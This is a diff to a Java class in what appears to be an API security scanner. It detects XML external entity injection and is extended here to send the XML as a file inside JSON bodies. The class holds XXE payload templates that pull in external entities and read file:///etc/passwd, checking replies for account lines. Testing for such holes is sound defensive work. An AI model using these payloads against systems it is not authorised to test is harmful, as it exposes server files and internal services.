@@ -4,6 +4,7 @@ import dev.sinew.model.Maturity;
 import dev.sinew.model.Rule;
 import dev.sinew.model.Severity;
 import dev.sinew.probe.http.Ask;
+import dev.sinew.probe.http.Carrier;
 import dev.sinew.probe.http.Header;
 import dev.sinew.probe.http.Listener;
 import dev.sinew.probe.http.Reply;
@@ -19,11 +20,15 @@ import dev.sinew.probe.run.Trial;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Optional;
+import java.util.regex.Pattern;
+import java.util.stream.Stream;
+import tools.jackson.databind.json.JsonMapper;
+import tools.jackson.databind.node.ObjectNode;
 
 /**
  * A document's own entities are fetched from where it says: whoever writes the document reads files of the server, or reaches what only the server reaches.
  *
- * <p>Proved on operations that take XML, with documents whose only element means nothing to the application: the run's own listener is called with the token
+ * <p>Proved on operations that take XML, also as a file where the path or the summary speaks of XML, with documents whose only element means nothing to the application: the run's own listener is called with the token
  * that stands in the document, and with another token for a second one; or the answer has the list of accounts of a Unix system ({@code root:…:0:0:}) for an entity
  * that names that file, twice, and not for one that names a file that does not exist. That an entity of the document itself is put in ({@code <!ENTITY e "text">}) is
  * no proof: it reaches nothing.
@@ -45,6 +50,8 @@ public final class Xxe implements Proof {
             "<?xml version=\"1.0\"?><!DOCTYPE sinew [<!ENTITY e SYSTEM \"%s\">]><sinew>&e;</sinew>",
             "<?xml version=\"1.0\"?><!DOCTYPE sinew SYSTEM \"%s\"><sinew/>",
             "<?xml version=\"1.0\"?><!DOCTYPE sinew [<!ENTITY %% e SYSTEM \"%s\"> %%e;]><sinew/>");
+
+    private static final Pattern XML = Pattern.compile("(?i)(?<![a-z])xml(?![a-z])");
 
     private static final String ACCOUNTS = "file:///etc/passwd";
 
@@ -70,7 +77,8 @@ public final class Xxe implements Proof {
                 .flatMap(body -> body.content().keySet().stream()
                         .filter(each -> each.endsWith("xml"))
                         .findFirst());
-        if (type.isEmpty()
+        Optional<String> file = type.isEmpty() && speaksOfXml(endpoint) ? trial.file(endpoint) : Optional.empty();
+        if (type.or(() -> file).isEmpty()
                 || trial.fixtures().isEmpty()
                 || !endpoint.operation().method().equals("POST")) {
             return Optional.empty();
@@ -78,13 +86,24 @@ public final class Xxe implements Proof {
         for (Persona persona : trial.personas()) {
             List<Filled> fillings = trial.fillings(endpoint, persona);
             if (!fillings.isEmpty()) {
-                return Optional.of(new Sending(fillings.getFirst(), type.get(), persona, trial).judge());
+                return Optional.of(new Sending(fillings.getFirst(), type, file, persona, trial).judge());
             }
         }
         return Optional.of(Outcome.inconclusive("no request to it can be made"));
     }
 
-    private record Sending(Filled filled, String type, Persona persona, Trial trial) {
+    private static boolean speaksOfXml(Endpoint endpoint) {
+        return Stream.of(endpoint.path(), endpoint.summary(), endpoint.sentence())
+                .anyMatch(each -> XML.matcher(each).find());
+    }
+
+    /**
+     * Documents that are sent.
+     *
+     * @param type the type of a body that is a document
+     * @param file else the member that is a file
+     */
+    private record Sending(Filled filled, Optional<String> type, Optional<String> file, Persona persona, Trial trial) {
         Outcome judge() {
             Optional<Outcome> read = read();
             if (read.isPresent()) {
@@ -150,8 +169,18 @@ public final class Xxe implements Proof {
         }
 
         private Ask ask(String document) {
+            if (type.isEmpty()) {
+                ObjectNode members = trial.whole(filled, persona)
+                        .filter(each -> !each.body().isEmpty())
+                        .map(each -> (ObjectNode) JsonMapper.shared().readTree(each.body()))
+                        .orElseGet(() -> JsonMapper.shared().createObjectNode());
+                members.putObject(file.orElseThrow())
+                        .put(Carrier.FILE, document)
+                        .put(Carrier.TYPE, "text/xml");
+                return filled.ask(members.toString());
+            }
             Ask bare = filled.ask();
-            return new Ask(bare.method(), bare.path(), List.of(new Header("Content-Type", type)), document);
+            return new Ask(bare.method(), bare.path(), List.of(new Header("Content-Type", type.get())), document);
         }
     }
 }
